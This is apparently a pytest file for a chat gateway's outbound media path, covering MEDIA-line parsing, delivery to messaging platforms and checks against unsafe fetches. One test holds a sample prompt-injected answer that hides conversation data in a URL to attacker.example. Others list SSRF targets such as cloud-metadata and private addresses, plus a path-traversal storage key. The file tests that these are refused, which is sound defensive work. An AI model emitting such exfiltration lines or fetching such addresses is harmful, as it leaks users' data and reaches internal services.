"""Outbound media (BEHAVIOUR §6a): MEDIA lines and send_message's media become files the platform
sends natively (or links), fetched once into the media bucket, with the public-address check."""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from typing import Any

import pytest

from hermes_gateway.domain.media import OutboundMedia
from hermes_gateway.domain.reach import MediaReach, TurnReach, search_scope
from hermes_gateway.errors import TransientError
from hermes_gateway.platforms.base import Sender
from hermes_gateway.platforms.discord import DiscordSender
from hermes_gateway.platforms.line import LineSender
from hermes_gateway.platforms.slack import SlackSender
from hermes_gateway.platforms.telegram import TelegramSender
from hermes_gateway.platforms.twilio import TwilioSender, _Account
from hermes_gateway.platforms.whatsapp import WhatsAppSender
from hermes_gateway.services.delivery import DeliveryDeps, DeliveryJob, deliver
from hermes_gateway.services.outbound_media import Fetching, MediaRefused, check_url, fetch_public, outbound_key
from hermes_gateway.services.turn.jobs import answer_fields
from hermes_gateway.tools.base import ToolContext, ToolError
from hermes_gateway.tools.send_message import _media
from tests.fakes.loopback import ScriptedAnswer
from tests.fakes.media_server import FakeMediaHost, file
from tests.fakes.media_store import MemoryMedia
from tests.fakes.services import FakeOutbox, FakeSender
from tests.fakes.telegram_server import FakeTelegram
from tests.fakes.upload_server import FakeApi, fields_of

NOW = 1_764_400_000.0
PNG = b"\x89PNG\r\n\x1a\n" + b"cat" * 100
PDF = b"%PDF-1.4 report"


def fetched(url: str, how: Fetching) -> tuple[bytes, str]:
    """What fetch_public writes, and the type it answers."""
    into = io.BytesIO()
    mime = fetch_public(url, how, into)
    return into.getvalue(), mime


@pytest.fixture
def host() -> Iterator[FakeMediaHost]:
    with FakeMediaHost() as fake:
        fake.files["/cat.png"] = file(PNG, "image/png")
        fake.files["/report.pdf"] = file(PDF, "application/pdf")
        fake.files["/note.ogg"] = file(b"OggS voice", "audio/ogg")
        fake.files["/song.mp3"] = file(b"ID3 song", "audio/mpeg")
        yield fake


def media_deps(sender: Sender, store: MemoryMedia, outbox: FakeOutbox | None = None) -> DeliveryDeps:
    return DeliveryDeps(
        outbox=outbox or FakeOutbox(),
        sender_for=lambda platform, via: sender,
        now=lambda: NOW,
        profile="default",
        media=Fetching(store, 1_000_000, local=True),
    )


def media_job(
    text: str,
    *refs: str,
    platform: str = "telegram",
    chat_id: str = "99",
    session_id: str | None = "sess-A",
    **extra: Any,
) -> DeliveryJob:
    return DeliveryJob.from_dict(
        {
            "delivery_id": "turn-1",
            "turn_id": "turn-1",
            "session": "s1",
            **({"session_id": session_id} if session_id else {}),
            "target": {"platform": platform, "chat_id": chat_id, **extra},
            "text": text,
            "media": [{"reference": r} for r in refs],
        }
    )


# -- the reply path -------------------------------------------------------------------------------


GIVEN = MediaReach(frozenset({"http://127.0.0.1:9/cat.png"}))


def test_an_answers_media_lines_leave_its_text_and_become_the_jobs_references() -> None:
    fields = answer_fields("here it is\nMEDIA:http://127.0.0.1:9/cat.png\nMEDIA: media/x/1-0\nbye", GIVEN)

    assert fields == {
        "text": "here it is\n\nbye",
        "media": [{"reference": "http://127.0.0.1:9/cat.png"}, {"reference": "media/x/1-0"}],
    }
    assert answer_fields("no files here", GIVEN) == {"text": "no files here"}


def test_a_media_url_the_turn_was_not_given_is_never_fetched_and_the_answer_says_so() -> None:
    # Given a prompt-injected answer that hides the conversation in a MEDIA line's query string
    answer = "Done.\nMEDIA:https://attacker.example/p.png?d=passport-123\nMEDIA:http://127.0.0.1:9/cat.png"
    # When the turn makes its job, then the made-up URL is not among the files and nothing of its
    # query string reaches the chat; the URL the turn was given is kept
    fields = answer_fields(answer, GIVEN)
    assert fields["media"] == [{"reference": "http://127.0.0.1:9/cat.png"}]
    assert fields["text"] == "Done.\n\n(I could not attach p.png: its address did not come from this conversation.)"
    assert "passport" not in json.dumps(fields)
    # a listed host is fetched although nobody wrote the URL; a notice (no reach) fetches none
    listed = MediaReach(hosts=("*.example",))
    assert len(answer_fields(answer, listed)["media"]) == 1
    assert "media" not in answer_fields("MEDIA:http://127.0.0.1:9/cat.png", MediaReach())


def test_send_messages_media_argument_is_references_and_a_bad_one_is_the_models_to_fix() -> None:
    ctx = ToolContext(
        kind="chat", turn_id="t", profile="default", now=NOW,
        reach=TurnReach(search_scope("agent:main", None, scope="user"), media=MediaReach(hosts=("example.com",))),
    )  # fmt: skip
    assert _media(["https://example.com/a.png"], ctx) == (OutboundMedia("https://example.com/a.png"),)
    with pytest.raises(ToolError):
        _media(["two words"], ctx)
    with pytest.raises(ToolError):
        _media("https://example.com/a.png", ctx)
    with pytest.raises(ToolError, match="did not come from the user"):
        _media(["https://elsewhere.example/a.png"], ctx)


def test_outbound_keys_never_meet_the_inbound_ones() -> None:
    assert outbound_key("default", "s1", "turn-1", 1) == "default/s1/out/turn-1-1"


# -- the public-address check ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://10.0.0.8/x.png",
        "https://192.168.1.2/x.png",
        "https://172.16.0.1/x.png",
        "https://127.0.0.1/x.png",
        "https://169.254.169.254/latest/meta-data/",
        "https://[::1]/x.png",
        "https://[fd00::1]/x.png",
        "https://[fe80::1]/x.png",
        "https://[::ffff:10.0.0.1]/x.png",
        # IPv6 forms that embed an IPv4 address, even a public one, and site-local
        "https://[64:ff9b::a00:1]/x.png",  # NAT64 of 10.0.0.1
        "https://[64:ff9b::808:808]/x.png",  # NAT64 of 8.8.8.8
        "https://[64:ff9b:1::a00:1]/x.png",  # local-use NAT64
        "https://[::a00:1]/x.png",  # IPv4-compatible
        "https://[2002:a00:1::1]/x.png",  # 6to4 of 10.0.0.1
        "https://[2002:808:808::1]/x.png",  # 6to4 of 8.8.8.8
        "https://[2001:0:4136:e378:8000:63bf:3fff:fdd2]/x.png",  # Teredo
        "https://[fec0::1]/x.png",  # site-local
        "https://100.64.0.1/x.png",
        "https://0.0.0.0/x.png",
        "http://93.184.216.34/x.png",  # public, but not https
        "ftp://93.184.216.34/x.png",
        "https://user:pw@93.184.216.34/x.png",
    ],
)
def test_deployed_only_https_to_public_addresses_is_fetched(url: str) -> None:
    with pytest.raises(MediaRefused):
        check_url(url, local=False)


def test_a_host_is_judged_by_every_address_it_resolves_to() -> None:
    check_url("https://files.example.com/a.png", local=False, resolve=lambda host: ["93.184.216.34"])
    with pytest.raises(MediaRefused, match="not a public address"):
        check_url("https://files.example.com/a.png", local=False, resolve=lambda host: ["93.184.216.34", "10.1.2.3"])


def test_loopback_http_is_fetched_in_local_mode_only() -> None:
    check_url("http://127.0.0.1:8080/cat.png", local=True)
    check_url("http://localhost:8080/cat.png", local=True)
    with pytest.raises(MediaRefused):
        check_url("http://127.0.0.1:8080/cat.png", local=False)
    with pytest.raises(MediaRefused):
        check_url("http://10.0.0.1/cat.png", local=True)  # local mode opens loopback, not the LAN


def test_a_redirect_to_a_private_address_is_refused_before_it_is_followed(host: FakeMediaHost) -> None:
    host.files["/moved.png"] = ScriptedAnswer(302, b"", {"Location": "https://10.0.0.1/cat.png"})
    host.files["/hop.png"] = ScriptedAnswer(302, b"", {"Location": "/cat.png"})
    how = Fetching(MemoryMedia(), 1_000_000, local=True)

    with pytest.raises(MediaRefused, match="public"):
        fetched(host.url("/moved.png"), how)
    assert fetched(host.url("/hop.png"), how) == (PNG, "image/png")


def test_the_fetch_connects_to_the_address_it_checked_not_to_a_second_dns_answer(host: FakeMediaHost) -> None:
    # A rebinding name answers the check with one address and the connection with another; the
    # fetch asks the resolver once and connects to what it checked (here: a name no real DNS knows)
    asked: list[str] = []

    def resolve(name: str) -> list[str]:
        asked.append(name)
        return ["127.0.0.1"] if len(asked) == 1 else ["10.0.0.1"]  # a second answer would lead away

    port = host.base_url.rsplit(":", 1)[1]
    how = Fetching(MemoryMedia(), 1_000_000, local=True, resolve=resolve)
    assert fetched(f"http://files.rebinding.test:{port}/cat.png", how) == (PNG, "image/png")
    assert asked == ["files.rebinding.test"]
    (received,) = host.requests
    assert received.path == "/cat.png" and received.headers["host"] == f"files.rebinding.test:{port}"


def test_a_file_over_the_limit_is_refused(host: FakeMediaHost) -> None:
    with pytest.raises(MediaRefused, match="limit"):
        fetched(host.url("/cat.png"), Fetching(MemoryMedia(), 100, local=True))


# -- delivery -------------------------------------------------------------------------------------


def test_telegram_sends_an_image_as_one_photo_with_the_text_as_caption(host: FakeMediaHost) -> None:
    store = MemoryMedia()
    with FakeTelegram() as telegram:
        sender = TelegramSender(telegram.base_url, telegram.token)
        result = deliver(media_job("here it is", host.url("/cat.png")), media_deps(sender, store))

        uploads = telegram.uploads()
    assert result.status == "sent"
    assert [method for method, _ in uploads] == ["sendPhoto"]
    fields = uploads[0][1]
    assert fields["photo"].value == PNG and fields["photo"].filename == "cat.png"
    assert fields["caption"].text == "here it is" and fields["chat_id"].text == "99"
    assert telegram.sent == []  # no text message beside it
    assert store.puts == ["default/s1/out/turn-1-1"]


@pytest.mark.parametrize(
    ("path", "method", "field"),
    [
        ("/report.pdf", "sendDocument", "document"),
        ("/note.ogg", "sendVoice", "voice"),
        ("/song.mp3", "sendAudio", "audio"),
    ],
)
def test_telegram_sends_each_kind_by_its_method(host: FakeMediaHost, path: str, method: str, field: str) -> None:
    with FakeTelegram() as telegram:
        deliver(
            media_job("", host.url(path)), media_deps(TelegramSender(telegram.base_url, telegram.token), MemoryMedia())
        )
        uploads = telegram.uploads()
    assert [(m, sorted(f)) for m, f in uploads] == [(method, sorted({"chat_id", field}))]


def test_a_long_text_goes_as_a_message_before_the_file(host: FakeMediaHost) -> None:
    text = " ".join(["word"] * 300)  # over Telegram's 1024-character caption
    with FakeTelegram() as telegram:
        deliver(
            media_job(text, host.url("/cat.png")),
            media_deps(TelegramSender(telegram.base_url, telegram.token), MemoryMedia()),
        )
        assert [s["text"] for s in telegram.sent] == [text]
        assert "caption" not in telegram.uploads()[0][1]


def test_a_5xx_on_the_upload_is_retried_without_fetching_the_file_again(host: FakeMediaHost) -> None:
    store, outbox = MemoryMedia(), FakeOutbox()
    with FakeTelegram() as telegram:
        telegram.answer_next(500, {"ok": False, "error_code": 500, "description": "Internal Server Error"})
        deps = media_deps(TelegramSender(telegram.base_url, telegram.token), store, outbox)
        with pytest.raises(TransientError):
            deliver(media_job("here it is", host.url("/cat.png")), deps)
        assert outbox.entries["turn-1#m1"].status == "failed"

        result = deliver(media_job("here it is", host.url("/cat.png")), deps)
        again = deliver(media_job("here it is", host.url("/cat.png")), deps)

        assert [m for m, _ in telegram.uploads()] == ["sendPhoto", "sendPhoto"]
    assert (result.sent_chunks, again.sent_chunks) == (1, 0)  # sent once, never again
    assert host.paths() == ["/cat.png"]  # fetched once
    assert outbox.entries["turn-1#m1"].media == [
        {"key": "default/s1/out/turn-1-1", "name": "cat.png", "kind": "image", "mime": "image/png"}
    ]


def test_a_4xx_on_the_upload_is_not_retried_and_the_chat_gets_the_text_and_a_note(host: FakeMediaHost) -> None:
    outbox = FakeOutbox()
    with FakeTelegram() as telegram:
        telegram.answer_next(400, {"ok": False, "error_code": 400, "description": "Bad Request: wrong file"})
        deps = media_deps(TelegramSender(telegram.base_url, telegram.token), MemoryMedia(), outbox)
        result = deliver(media_job("here it is", host.url("/cat.png")), deps)
        deliver(media_job("here it is", host.url("/cat.png")), deps)  # a repeat tries nothing again

        assert len(telegram.uploads()) == 1
        texts = [s["text"] for s in telegram.sent]
    assert result.status == "sent"
    assert outbox.entries["turn-1#m1"].status == "refused"
    assert texts == ["here it is\n\n(I could not attach cat.png: the platform refused it.)"]


def test_an_unfetchable_reference_gives_the_text_and_a_short_note(host: FakeMediaHost) -> None:
    sender = FakeSender()
    result = deliver(media_job("here it is", host.url("/gone.png?token=s3cret")), media_deps(sender, MemoryMedia()))

    assert result.status == "sent"
    [(_, text, _)] = sender.sent
    assert text.startswith("here it is\n\n(I could not attach gone.png: the file could not be downloaded (HTTP 404)")
    assert "s3cret" not in text and "MEDIA:" not in text


def test_a_platform_without_uploads_gets_a_link_to_the_stored_file(host: FakeMediaHost) -> None:
    sender = FakeSender()  # as Teams, Google Chat, the standard webhook: text only
    deliver(media_job("here it is", host.url("/cat.png")), media_deps(sender, MemoryMedia()))

    [(_, text, _)] = sender.sent
    assert text.startswith("here it is\n\n\U0001f4ce cat.png: https://media.example.com/default/s1/out/turn-1-1?")


def test_a_stored_key_of_another_profile_is_not_attached() -> None:
    store = MemoryMedia()
    store.objects["other/s9/3-0"] = (PNG, "image/png")
    sender = FakeSender()
    deliver(media_job("hi", "other/s9/3-0"), media_deps(sender, store))
    assert "could not attach" in sender.sent[0][1]


@pytest.mark.parametrize(
    ("reference", "session_id"),
    [
        ("default/sess-B/3-0", "sess-A"),  # another user's session (a key user B found by searching)
        ("default/sess-A/3-0.json", "sess-A"),  # a file's record: its text or transcript
        ("default/sess-A/3-0", None),  # a job of no session (a cron run, a push)
        ("default/sess-A/../sess-B/3-0", "sess-A"),
        ("default/sess-A/out/other-1", "sess-A"),
        ("default/sess-A/", "sess-A"),
    ],
)
def test_a_stored_key_outside_the_delivering_turns_session_is_not_attached(
    reference: str, session_id: str | None
) -> None:
    store = MemoryMedia()
    for key in ("default/sess-B/3-0", "default/sess-A/3-0.json", "default/sess-A/3-0", "default/sess-A/out/other-1"):
        store.objects[key] = (b"secret bytes", "image/png")
    sender = FakeSender()
    result = deliver(media_job("hi", reference, session_id=session_id), media_deps(sender, store))
    assert result.status == "sent"
    # only the text with its note went out: no file, no link to one
    [(_, text, _)] = sender.sent
    assert "could not attach" in text and "media.example.com" not in text


def test_a_stored_key_of_the_turns_own_session_is_attached() -> None:
    store = MemoryMedia()
    store.objects["default/sess-A/3-0"] = (PNG, "image/png")
    sender = FakeSender()
    deliver(media_job("hi", "default/sess-A/3-0"), media_deps(sender, store))
    [(_, text, _)] = sender.sent
    assert "could not attach" not in text and "media.example.com/default/sess-A/3-0" in text


# -- the other platforms' native shapes -----------------------------------------------------------


@pytest.fixture
def api() -> Iterator[FakeApi]:
    with FakeApi() as fake:
        yield fake


def token(*parts: str) -> str:
    return "-".join(parts)  # assembled here: no secret-shaped literal on disk


def test_slack_uploads_externally_and_shares_in_the_thread(host: FakeMediaHost, api: FakeApi) -> None:
    api.routes["/files.getUploadURLExternal"] = ScriptedAnswer(
        200, {"ok": True, "upload_url": api.base_url + "/upload/F1", "file_id": "F1"}
    )
    api.routes["/upload/F1"] = ScriptedAnswer(200, "OK - 123")
    api.routes["/files.completeUploadExternal"] = ScriptedAnswer(200, {"ok": True, "files": [{"id": "F1"}]})
    sender = SlackSender(api.base_url, token("xoxb", "test"))

    deliver(
        media_job("here it is", host.url("/report.pdf"), platform="slack", chat_id="C1", thread_id="1.2"),
        media_deps(sender, MemoryMedia()),
    )

    [ticket] = api.to("/files.getUploadURLExternal")
    assert ticket.body == {"filename": "report.pdf", "length": str(len(PDF))}
    assert api.to("/upload/F1")[0].raw == PDF
    [done] = api.to("/files.completeUploadExternal")
    assert done.body == {
        "files": [{"id": "F1", "title": "report.pdf"}],
        "channel_id": "C1",
        "thread_ts": "1.2",
        "initial_comment": "here it is",
    }


def test_discord_posts_the_file_as_files0_with_payload_json(host: FakeMediaHost, api: FakeApi) -> None:
    api.routes["/channels/123456789012345678/messages"] = ScriptedAnswer(200, {"id": "223456789012345678"})
    sender = DiscordSender(api.base_url, bot_token=token("bot", "test"), application_id=None)

    result = deliver(
        media_job("here it is", host.url("/cat.png"), platform="discord", chat_id="123456789012345678"),
        media_deps(sender, MemoryMedia()),
    )

    assert result.status == "sent"
    fields = fields_of(api.requests[0])
    assert fields["files[0]"].value == PNG and fields["files[0]"].filename == "cat.png"
    assert json.loads(fields["payload_json"].text) == {
        "attachments": [{"id": 0, "filename": "cat.png"}],
        "content": "here it is",
    }


def test_whatsapp_uploads_the_media_then_sends_a_message_naming_its_id(host: FakeMediaHost, api: FakeApi) -> None:
    api.routes["/555/media"] = ScriptedAnswer(200, {"id": "MEDIA1"})
    api.routes["/555/messages"] = ScriptedAnswer(200, {"messages": [{"id": "wamid.1"}]})
    sender = WhatsAppSender(api.base_url, token("wa", "test"), "555")

    deliver(
        media_job("the report", host.url("/report.pdf"), platform="whatsapp", chat_id="15551234567"),
        media_deps(sender, MemoryMedia()),
    )

    fields = fields_of(api.to("/555/media")[0])
    assert (fields["messaging_product"].text, fields["type"].text, fields["file"].value) == (
        "whatsapp",
        "application/pdf",
        PDF,
    )
    message = api.to("/555/messages")[0].body
    assert message["type"] == "document"
    assert message["document"] == {"id": "MEDIA1", "filename": "report.pdf", "caption": "the report"}


def test_line_sends_an_image_message_of_an_https_presigned_url(host: FakeMediaHost, api: FakeApi) -> None:
    api.routes["/v2/bot/message/push"] = ScriptedAnswer(200, {"sentMessages": [{"id": "L1"}]})
    sender = LineSender(api.base_url, token("line", "test"))

    deliver(
        media_job("here it is", host.url("/cat.png"), platform="line", chat_id="U1"), media_deps(sender, MemoryMedia())
    )

    texts, image = [r.body["messages"][0] for r in api.to("/v2/bot/message/push")]
    assert texts == {"type": "text", "text": "here it is"}  # LINE images have no caption
    assert image["type"] == "image"
    assert image["originalContentUrl"].startswith("https://media.example.com/default/s1/out/turn-1-1?")


def test_twilio_sends_an_mms_whose_media_url_is_the_presigned_url(host: FakeMediaHost, api: FakeApi) -> None:
    api.routes["/2010-04-01/Accounts/AC1/Messages.json"] = ScriptedAnswer(201, {"sid": "SM1"})
    sender = TwilioSender(_Account(api.base_url, "AC1", token("tw", "test")), "+15550000000")

    deliver(
        media_job("here it is", host.url("/cat.png"), platform="sms", chat_id="+15551112222"),
        media_deps(sender, MemoryMedia()),
    )

    [sent] = api.requests
    assert sent.body["Body"] == "here it is"
    assert sent.body["MediaUrl"].startswith("https://media.example.com/default/s1/out/turn-1-1?")


def test_mattermost_uploads_to_files_then_posts_with_its_file_id(host: FakeMediaHost, api: FakeApi) -> None:
    from hermes_gateway.platforms.mattermost import MattermostSender

    api.routes["/api/v4/files"] = ScriptedAnswer(201, {"file_infos": [{"id": "file1"}]})
    api.routes["/api/v4/posts"] = ScriptedAnswer(201, {"id": "post1"})
    sender = MattermostSender(api.base_url, token("mm", "test"))

    deliver(
        media_job("here it is", host.url("/report.pdf"), platform="mattermost", chat_id="chan1", thread_id="root1"),
        media_deps(sender, MemoryMedia()),
    )

    fields = fields_of(api.to("/api/v4/files")[0])
    assert (fields["channel_id"].text, fields["files"].filename, fields["files"].value) == ("chan1", "report.pdf", PDF)
    post = api.to("/api/v4/posts")[0].body
    assert post.pop("pending_post_id")  # the chunk's de-duplication key, as for a text post
    assert post == {"channel_id": "chan1", "message": "here it is", "file_ids": ["file1"], "root_id": "root1"}


def test_matrix_uploads_the_file_then_sends_an_image_event_of_its_mxc_url(host: FakeMediaHost, api: FakeApi) -> None:
    from hermes_gateway.platforms.matrix import MatrixSender

    api.routes["/_matrix/media/v3/upload"] = ScriptedAnswer(200, {"content_uri": "mxc://example.org/abc"})
    sender = MatrixSender(api.base_url, token("as", "test"), "@bot:example.org")

    def is_event(request: Any) -> bool:  # each event's path ends in a fresh transaction id
        return "/send/m.room.message/" in request.path

    api.answer_next(200, {"event_id": "$1"}, times=2, only=is_event)
    deliver(
        media_job("here it is", host.url("/cat.png"), platform="matrix", chat_id="!room:example.org"),
        media_deps(sender, MemoryMedia()),
    )

    [upload] = api.to("/_matrix/media/v3/upload")
    assert upload.raw == PNG and upload.headers["content-type"] == "image/png" and "filename=cat.png" in upload.path
    sent = [r.body for r in api.requests if "/send/m.room.message/" in r.path]
    assert sent == [
        {"msgtype": "m.text", "body": "here it is"},
        {
            "msgtype": "m.image",
            "body": "cat.png",
            "url": "mxc://example.org/abc",
            "info": {"mimetype": "image/png", "size": len(PNG)},
        },
    ]


class LoopbackMedia(MemoryMedia):
    """Local mode's bucket: the embedded S3's pre-signed URLs are plain http on loopback."""

    def __init__(self, base: str) -> None:
        super().__init__()
        self.base = base

    def url(self, key: str, expires_seconds: int) -> str:
        return f"{self.base}/{key}?X-Amz-Expires={expires_seconds}&X-Amz-Signature=abc"


@pytest.mark.parametrize(
    ("base", "native"), [("http://127.0.0.1:4566/media", True), ("http://media.example.com", False)]
)
def test_line_sends_a_loopback_http_url_in_local_mode_and_no_other_http(
    host: FakeMediaHost, api: FakeApi, base: str, native: bool
) -> None:
    api.routes["/v2/bot/message/push"] = ScriptedAnswer(200, {"sentMessages": [{"id": "L1"}]})
    outbox = FakeOutbox()
    sender = LineSender(api.base_url, token("line", "test"))

    deliver(
        media_job("here it is", host.url("/cat.png"), platform="line", chat_id="U1"),
        media_deps(sender, LoopbackMedia(base), outbox),
    )

    sent = [r.body["messages"][0] for r in api.to("/v2/bot/message/push")]
    images = [m for m in sent if m["type"] == "image"]
    assert [m["originalContentUrl"].startswith(base + "/default/s1/out/turn-1-1?") for m in images] == (
        [True] if native else []
    )
    assert outbox.entries["turn-1#m1"].status == ("sent" if native else "refused")


def test_discord_answers_an_interaction_with_the_file_in_place_of_its_thinking_message(
    host: FakeMediaHost, api: FakeApi
) -> None:
    """A slash command's deferred "thinking…" message is replaced by the file (multipart, through
    the interaction webhook, which needs no bot token), as a text answer replaces it."""
    webhook = "/webhooks/1100000000000000000/aW50ZXJhY3Rpb24tdG9rZW4"
    api.routes[webhook + "/messages/@original"] = ScriptedAnswer(200, {"id": "323456789012345678", "flags": 128})
    sender = DiscordSender(api.base_url, bot_token=None, application_id="1100000000000000000")
    context = {"interaction_token": "aW50ZXJhY3Rpb24tdG9rZW4", "application_id": "1100000000000000000"}

    result = deliver(
        media_job("here it is", host.url("/cat.png"), platform="discord", chat_id="123456789012345678",
                  context=context),
        media_deps(sender, MemoryMedia()),
    )  # fmt: skip

    assert result.status == "sent"
    assert [(r.http_method, r.path) for r in api.requests] == [
        ("GET", webhook + "/messages/@original"),
        ("PATCH", webhook + "/messages/@original"),
    ]
    fields = fields_of(api.requests[1])
    assert fields["files[0]"].value == PNG and fields["files[0]"].filename == "cat.png"
    assert json.loads(fields["payload_json"].text) == {
        "attachments": [{"id": 0, "filename": "cat.png"}],
        "content": "here it is",
    }
